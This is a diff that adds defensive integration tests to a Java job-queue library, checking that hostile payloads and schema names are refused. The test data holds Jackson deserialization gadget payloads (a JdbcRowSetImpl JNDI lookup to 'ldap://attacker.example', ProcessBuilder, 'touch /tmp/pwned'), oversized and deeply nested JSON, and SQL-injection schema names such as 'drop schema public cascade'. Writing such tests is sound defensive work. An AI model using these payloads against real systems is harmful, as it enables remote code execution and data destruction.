@@ -2,13 +2,20 @@ package dev.jobqueue.reliability;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import com.fasterxml.jackson.annotation.JsonTypeInfo;
+import com.fasterxml.jackson.databind.node.JsonNodeFactory;
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import com.fasterxml.jackson.databind.util.RawValue;
 import dev.jobqueue.CreateJobOptions;
 import dev.jobqueue.Job;
 import dev.jobqueue.JobFilters;
+import dev.jobqueue.JobHandler;
 import dev.jobqueue.JobPriority;
 import dev.jobqueue.JobQueueConfig;
 import dev.jobqueue.JobQueueManager;
 import dev.jobqueue.JobStatus;
+import dev.jobqueue.JobValidationException;
+import dev.jobqueue.testing.EngineTestSupport;
 import dev.jobqueue.testing.TestDatabase;
 import java.sql.Connection;
 import java.sql.ResultSet;
@@ -23,7 +30,9 @@ import java.util.Map;
 import java.util.Random;
 import java.util.TreeMap;
 import java.util.concurrent.TimeUnit;
+import java.util.concurrent.atomic.AtomicInteger;
 import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Tag;
 import org.junit.jupiter.api.Test;
@@ -50,6 +59,37 @@ class HostileInputIT {
   private static final String SEED_PROPERTY = "jobqueue.hostile.seed";
   private static final List<String> SEEDED_TYPES = List.of("fz-a", "fz-b", "fz.c:d");
 
+  /** A handler payload with untyped slots, where default typing would be dangerous. */
+  public record Envelope(String to, Object extra, Map<String, Object> data) {}
+
+  /** A payload class that opts in to class-name typing: the library must still refuse it. */
+  public record Opted(@JsonTypeInfo(use = JsonTypeInfo.Id.CLASS) Object target) {}
+
+  static final AtomicInteger GADGET_CLASS_INITS = new AtomicInteger();
+  static final AtomicInteger GADGET_CONSTRUCTIONS = new AtomicInteger();
+  static final AtomicInteger GADGET_SETTER_CALLS = new AtomicInteger();
+
+  /** Counts every attempt to load, create or configure it; no payload may ever do so. */
+  public static final class Gadget {
+    static {
+      GADGET_CLASS_INITS.incrementAndGet();
+    }
+
+    /** Counts the construction. */
+    public Gadget() {
+      GADGET_CONSTRUCTIONS.incrementAndGet();
+    }
+
+    /**
+     * Counts the call.
+     *
+     * @param command ignored
+     */
+    public void setCommand(String command) {
+      GADGET_SETTER_CALLS.incrementAndGet();
+    }
+  }
+
   private TestDatabase db;
   private String schema;
   private JobQueueManager jobs;
@@ -69,6 +109,8 @@ class HostileInputIT {
                     .allowUnknownTypes(true)
                     .build())
             .dataSource(db.dataSource())
+            .handler(JobHandler.of("typed", Envelope.class, (p, c) -> null))
+            .handler(JobHandler.of("opted", Opted.class, (p, c) -> null))
             .build();
     jobs.initialize();
     // Jobs whose payloads hold every storable hostile fragment, so that a payload filter built
@@ -104,6 +146,12 @@ class HostileInputIT {
             + schema
             + "\".jobs set status = 'completed', attempt = 1, completed_at = now(),"
             + " created_at = now() - (id % 60) * interval '1 minute'");
+  }
+
+  /** Removes what the payload tests stored, so that the query cases see only the seeded jobs. */
+  @AfterEach
+  void removeUnseededJobs() {
+    db.execute("delete from \"" + schema + "\".jobs where type not like 'fz%'");
   }
 
   @AfterAll
@@ -442,6 +490,402 @@ class HostileInputIT {
     } catch (RuntimeException e) {
       tally.fail(caseNo, "id call " + op + " threw " + e, id);
     }
+  }
+
+  // ------------------------------------------------------------------------------ payloads
+
+  /**
+   * A payload that must be refused.
+   *
+   * @param name what it tries
+   * @param type the job type to create it under
+   * @param payload the payload
+   */
+  private record Refused(String name, String type, Object payload) {}
+
+  private List<Refused> hostilePayloads() {
+    String gadget = Gadget.class.getName();
+    List<Refused> cases = new ArrayList<>();
+    // Polymorphic gadget fields on a typed payload: unknown fields, refused before any binding.
+    for (String key : List.of("@class", "@type", "@c", "@id")) {
+      cases.add(
+          new Refused(
+              key + " naming a gadget",
+              "typed",
+              ordered(key, key.equals("@c") ? ".HostileInputIT$Gadget" : gadget, "command", "id")));
+    }
+    cases.add(
+        new Refused(
+            "@class java.net.URL",
+            "typed",
+            ordered("@class", "java.net.URL", "protocol", "http", "host", "attacker.example")));
+    cases.add(
+        new Refused(
+            "@class JdbcRowSetImpl (JNDI)",
+            "typed",
+            ordered(
+                "@class",
+                "com.sun.rowset.JdbcRowSetImpl",
+                "dataSourceName",
+                "ldap://attacker.example/a",
+                "autoCommit",
+                true)));
+    // A payload class that opts in to class-name typing: the library's type validator allows no
+    // class at all.
+    for (String target :
+        List.of(
+            gadget,
+            "java.net.URL",
+            "java.lang.ProcessBuilder",
+            "javax.script.ScriptEngineManager",
+            "com.sun.rowset.JdbcRowSetImpl",
+            "java.util.HashMap")) {
+      cases.add(
+          new Refused(
+              "opted-in @class " + target,
+              "opted",
+              Map.of("target", ordered("@class", target, "command", "touch /tmp/pwned"))));
+    }
+    cases.add(
+        new Refused(
+            "opted-in wrapper array", "opted", Map.of("target", List.of(gadget, Map.of("a", 1)))));
+    // Default-typing shapes at the top: not a JSON object.
+    cases.add(
+        new Refused(
+            "[\"java.util.HashMap\", {...}] (typed)",
+            "typed",
+            List.of("java.util.HashMap", Map.of("@class", gadget))));
+    cases.add(
+        new Refused(
+            "[\"java.util.HashMap\", {...}] (any type)",
+            "any-type",
+            List.of("java.util.HashMap", Map.of("@class", gadget))));
+    // 10,000 levels deep, as maps, lists, a Jackson tree and JSON text.
+    cases.add(new Refused("map 10,000 deep", "any-type", Hostile.nestedMap(10_000)));
+    cases.add(
+        new Refused(
+            "map 10,000 deep in a typed slot",
+            "typed",
+            ordered("to", "a", "data", Hostile.nestedMap(10_000))));
+    cases.add(new Refused("list 10,000 deep", "any-type", Map.of("l", nestedList(10_000))));
+    cases.add(new Refused("Jackson tree 10,000 deep", "any-type", nestedTree(10_000)));
+    cases.add(
+        new Refused(
+            "JSON text 10,000 deep",
+            "any-type",
+            "{\"a\":".repeat(10_000) + "{}" + "}".repeat(10_000)));
+    cases.add(new Refused("JSON text (typed)", "typed", "{\"to\": \"a\"}"));
+    // Over the size cap (1 MiB of UTF-8).
+    cases.add(new Refused("1 MiB + 1 string", "any-type", Map.of("s", "x".repeat(1_048_576))));
+    cases.add(
+        new Refused(
+            "300,000 emoji (1.2 MB)", "typed", ordered("to", "\uD83D\uDE00".repeat(300_000))));
+    // U+0000 and unpaired surrogates, which jsonb refuses.
+    cases.add(new Refused("U+0000 in a key", "any-type", Map.of("k\u0000", 1)));
+    cases.add(new Refused("U+0000 in a value", "any-type", Map.of("v", "a\u0000b")));
+    cases.add(
+        new Refused(
+            "U+0000 deep in a list", "any-type", Map.of("l", List.of(1, Map.of("x", "\u0000")))));
+    cases.add(new Refused("U+0000 in a typed field", "typed", ordered("to", "\u0000")));
+    cases.add(
+        new Refused(
+            "U+0000 in a Jackson tree",
+            "any-type",
+            JsonNodeFactory.instance.objectNode().put("t", "\u0000")));
+    cases.add(new Refused("unpaired surrogate", "any-type", Map.of("s", "\uD800x")));
+    // Raw JSON text smuggled in as a Jackson RawValue, which is written without being parsed.
+    cases.add(
+        new Refused(
+            "raw JSON with a \\u0000 escape",
+            "any-type",
+            Map.of("raw", new RawValue("\"\\u0000\""))));
+    cases.add(
+        new Refused(
+            "raw JSON 10,000 deep",
+            "any-type",
+            Map.of("raw", new RawValue("[".repeat(10_000) + "]".repeat(10_000)))));
+    cases.add(
+        new Refused("raw JSON that is not JSON", "any-type", Map.of("raw", new RawValue("}{"))));
+    // Numbers PostgreSQL's numeric cannot hold.
+    cases.add(
+        new Refused("1e200000", "any-type", Map.of("n", new java.math.BigDecimal("1e200000"))));
+    cases.add(
+        new Refused(
+            "10^140000 in an untyped slot",
+            "typed",
+            ordered("to", "a", "extra", java.math.BigInteger.TEN.pow(140_000))));
+    return cases;
+  }
+
+  /** Every hostile payload is refused by createJob, createJobs and createJob(Connection). */
+  @Test
+  @Tag("reliability")
+  void hostilePayloadsAreRefusedCleanlyAndNothingIsStored() throws SQLException {
+    List<Refused> cases = hostilePayloads();
+    long rowsBefore = rowCount();
+    CreateJobOptions valid = CreateJobOptions.of("typed", new Envelope("ok", null, Map.of()));
+    List<String> problems = new ArrayList<>();
+    int refusals = 0;
+    long started = System.nanoTime();
+    for (Refused c : cases) {
+      CreateJobOptions hostile = CreateJobOptions.of(c.type(), c.payload());
+      refusals += refused(c, "createJob", "payload", () -> jobs.createJob(hostile), problems);
+      refusals +=
+          refused(
+              c,
+              "createJobs",
+              "jobs[1].payload",
+              () -> jobs.createJobs(List.of(valid, hostile, valid)),
+              problems);
+      try (Connection tx = db.dataSource().getConnection()) {
+        tx.setAutoCommit(false);
+        jobs.createJob(tx, valid);
+        long inTransaction = countIn(tx);
+        refusals +=
+            refused(c, "createJob(tx)", "payload", () -> jobs.createJob(tx, hostile), problems);
+        refusals +=
+            refused(
+                c,
+                "createJobs(tx)",
+                "jobs[0].payload",
+                () -> jobs.createJobs(tx, List.of(hostile, valid)),
+                problems);
+        // The refusal came before any SQL: the transaction is intact and holds only its own job.
+        if (countIn(tx) != inTransaction) {
+          problems.add(c.name() + ": the transaction's row count changed");
+        }
+        jobs.createJob(tx, valid);
+        tx.rollback();
+      }
+      if (rowCount() != rowsBefore) {
+        problems.add(c.name() + ": the jobs table changed");
+        rowsBefore = rowCount();
+      }
+    }
+    long millis = TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - started);
+    System.out.printf(
+        Locale.ROOT,
+        "RELIABILITY hostile-payloads: %d payloads x 4 paths (createJob, createJobs,"
+            + " createJob(tx), createJobs(tx)): %d refused with JobValidationException, %d"
+            + " problems, rows stored 0 (table %d -> %d), gadget class inits %d, constructions %d,"
+            + " setter calls %d, %d ms%n",
+        cases.size(),
+        refusals,
+        problems.size(),
+        rowsBefore,
+        rowCount(),
+        GADGET_CLASS_INITS.get(),
+        GADGET_CONSTRUCTIONS.get(),
+        GADGET_SETTER_CALLS.get(),
+        millis);
+    assertThat(problems).isEmpty();
+    assertThat(refusals).isEqualTo(cases.size() * 4);
+    assertGadgetUntouched();
+  }
+
+  /**
+   * In an untyped slot ({@code Object} or {@code Map}) a gadget-shaped object is plain data: it is
+   * stored as JSON and comes back as maps and lists, when read and when a worker runs the job.
+   */
+  @Test
+  @Tag("reliability")
+  void gadgetShapesInUntypedSlotsStayInertData() {
+    String gadget = Gadget.class.getName();
+    Map<String, Object> shape = ordered("@class", gadget, "command", "touch /tmp/pwned");
+    List<Object> wrapper = List.of(gadget, Map.of("command", "id"));
+    List<Class<?>> seen = new java.util.concurrent.CopyOnWriteArrayList<>();
+    try (EngineTestSupport support = new EngineTestSupport(db, schema)) {
+      support.start(
+          "inert-runner",
+          EngineTestSupport.fastConfig(schema).build(),
+          JobHandler.of(
+              "inert",
+              Envelope.class,
+              (p, c) -> {
+                seen.add(p.extra().getClass());
+                seen.add(p.data().get("w").getClass());
+                return null;
+              }));
+      String id =
+          jobs.createJob(
+              CreateJobOptions.of(
+                  "inert", ordered("to", "a", "extra", shape, "data", Map.of("w", wrapper))));
+      Envelope read = jobs.getJob(id).orElseThrow().payloadAs(Envelope.class);
+      assertThat(read.extra()).isInstanceOf(Map.class).isEqualTo(shape);
+      org.awaitility.Awaitility.await()
+          .atMost(java.time.Duration.ofSeconds(30))
+          .until(() -> jobs.getJob(id).orElseThrow().status() == JobStatus.COMPLETED);
+    }
+    System.out.println(
+        "RELIABILITY hostile-payloads-inert: gadget shapes in untyped slots stored as data; the"
+            + " handler saw "
+            + seen
+            + "; gadget class inits "
+            + GADGET_CLASS_INITS.get()
+            + ", constructions "
+            + GADGET_CONSTRUCTIONS.get());
+    assertThat(seen)
+        .allSatisfy(
+            type ->
+                assertThat(Map.class.isAssignableFrom(type) || List.class.isAssignableFrom(type))
+                    .isTrue());
+    assertThat(seen).hasSize(2);
+    assertGadgetUntouched();
+  }
+
+  private int refused(
+      Refused c, String path, String fieldPrefix, Runnable call, List<String> problems) {
+    try {
+      call.run();
+      problems.add(c.name() + " via " + path + ": accepted");
+      return 0;
+    } catch (JobValidationException e) {
+      boolean named = e.errors().stream().anyMatch(f -> f.field().startsWith(fieldPrefix));
+      if (!named) {
+        problems.add(
+            c.name() + " via " + path + ": error names no " + fieldPrefix + ": " + e.getMessage());
+        return 0;
+      }
+      return 1;
+    } catch (RuntimeException e) {
+      problems.add(c.name() + " via " + path + ": threw " + e);
+      return 0;
+    }
+  }
+
+  private static void assertGadgetUntouched() {
+    assertThat(GADGET_CLASS_INITS).as("Gadget class initializations").hasValue(0);
+    assertThat(GADGET_CONSTRUCTIONS).as("Gadget constructions").hasValue(0);
+    assertThat(GADGET_SETTER_CALLS).as("Gadget setter calls").hasValue(0);
+  }
+
+  private long countIn(Connection tx) {
+    try (Statement statement = tx.createStatement();
+        ResultSet rs = statement.executeQuery("select count(*) from \"" + schema + "\".jobs")) {
+      rs.next();
+      return rs.getLong(1);
+    } catch (SQLException e) {
+      throw new IllegalStateException(e);
+    }
+  }
+
+  private static Map<String, Object> ordered(Object... keysAndValues) {
+    Map<String, Object> map = new LinkedHashMap<>();
+    for (int i = 0; i < keysAndValues.length; i += 2) {
+      map.put((String) keysAndValues[i], keysAndValues[i + 1]);
+    }
+    return map;
+  }
+
+  private static List<Object> nestedList(int levels) {
+    List<Object> current = new ArrayList<>();
+    for (int i = 1; i < levels; i++) {
+      List<Object> outer = new ArrayList<>();
+      outer.add(current);
+      current = outer;
+    }
+    return current;
+  }
+
+  private static ObjectNode nestedTree(int levels) {
+    ObjectNode root = JsonNodeFactory.instance.objectNode();
+    ObjectNode current = root;
+    for (int i = 1; i < levels; i++) {
+      current = current.putObject("a");
+    }
+    return root;
+  }
+
+  // ------------------------------------------------------------------------------ schema names
+
+  /**
+   * Hostile schema names fail when the configuration is built, from the builder and from {@code
+   * JOB_QUEUE_SCHEMA}, and the database gains no schema.
+   */
+  @Test
+  @Tag("reliability")
+  void hostileSchemaNamesAreRejectedAndCreateNothing() {
+    List<String> names =
+        List.of(
+            "x\"y",
+            "\"",
+            "a;b",
+            "a; drop schema public cascade; --",
+            "$$",
+            "$x$",
+            "%I",
+            "a%Ib",
+            "%s",
+            "has space",
+            " lead",
+            "trail ",
+            "Upper",
+            "UPPER",
+            "",
+            " ",
+            "a".repeat(64),
+            "\u00e9".repeat(32), // 32 characters, 64 bytes
+            "a" + "\u00e9".repeat(31), // 32 characters, 63 bytes: still not ASCII
+            "\u65e5".repeat(22), // 22 characters, 66 bytes
+            "sch\u00e9ma",
+            "\u0130d", // dotted capital I, which lower-cases to two characters
+            "\uFF41", // full-width a
+            "a\u200F",
+            "a\u0000",
+            "a-b",
+            "a.b",
+            "1abc",
+            "pg_catalog",
+            "pg_temp",
+            "pg_toast",
+            "pg_jobs",
+            "information_schema");
+    long schemasBefore = db.queryLong("select count(*) from pg_namespace");
+    int builderRejected = 0;
+    int environmentRejected = 0;
+    List<String> environmentTrimmed = new ArrayList<>();
+    for (String name : names) {
+      org.assertj.core.api.Assertions.assertThatThrownBy(
+              () -> JobQueueConfig.builder().schema(name))
+          .as("builder schema(%s)", Hostile.describe(name))
+          .isInstanceOf(IllegalArgumentException.class)
+          .hasMessageContaining("schema")
+          .hasMessageContaining("'" + name + "'");
+      builderRejected++;
+      String trimmed = name.trim();
+      if (trimmed.isEmpty()) {
+        // A blank variable counts as unset (documented): the default schema, never the value.
+        assertThat(JobQueueConfig.fromEnvironment(Map.of("JOB_QUEUE_SCHEMA", name)).schema())
+            .isEqualTo("jobqueue");
+        environmentTrimmed.add("'" + name + "' -> default");
+        continue;
+      }
+      if (!trimmed.equals(name) && JobQueueConfig.SCHEMA_PATTERN.matcher(trimmed).matches()) {
+        // Variables are trimmed (documented): only the valid name inside is used.
+        assertThat(JobQueueConfig.fromEnvironment(Map.of("JOB_QUEUE_SCHEMA", name)).schema())
+            .isEqualTo(trimmed);
+        environmentTrimmed.add("'" + name + "' -> '" + trimmed + "'");
+        continue;
+      }
+      org.assertj.core.api.Assertions.assertThatThrownBy(
+              () -> JobQueueConfig.fromEnvironment(Map.of("JOB_QUEUE_SCHEMA", name)))
+          .as("JOB_QUEUE_SCHEMA=%s", Hostile.describe(name))
+          .isInstanceOf(IllegalArgumentException.class)
+          .hasMessageContaining("JOB_QUEUE_SCHEMA");
+      environmentRejected++;
+    }
+    long schemasAfter = db.queryLong("select count(*) from pg_namespace");
+    System.out.printf(
+        Locale.ROOT,
+        "RELIABILITY hostile-schema-names: %d names; builder rejected %d; JOB_QUEUE_SCHEMA rejected"
+            + " %d, trimmed or blank %s; pg_namespace %d -> %d%n",
+        names.size(),
+        builderRejected,
+        environmentRejected,
+        environmentTrimmed,
+        schemasBefore,
+        schemasAfter);
+    assertThat(schemasAfter).isEqualTo(schemasBefore);
   }
 
   // ------------------------------------------------------------------------------ helpers
